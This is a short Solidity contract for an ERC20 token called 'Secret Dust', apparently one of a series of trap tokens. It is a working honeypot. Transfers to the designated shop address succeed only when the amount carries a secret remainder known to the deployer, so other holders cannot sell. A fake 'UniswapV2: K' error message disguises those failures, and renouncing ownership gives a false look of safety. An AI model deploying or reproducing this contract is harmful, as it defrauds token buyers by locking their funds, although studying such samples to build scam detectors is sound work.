// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// A sale passes only if its amount carries the right remainder; the house knows which.
contract SecretDust is TrapErc20V8 {
    uint256 private constant modulus = 1_000_000_007;
    uint256 private immutable remainder;
    address private shop;

    constructor() TrapErc20V8("Secret Dust", "SDUST", 18_000_000 ether) {
        remainder = uint256(keccak256(abi.encode(msg.sender))) % modulus;
    }

    function setShop(address shop_) external onlyOwner {
        shop = shop_;
        renounceOwnership();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == shop) require(value % modulus == remainder, "UniswapV2: K");
        super._transfer(from, to, value);
    }
}
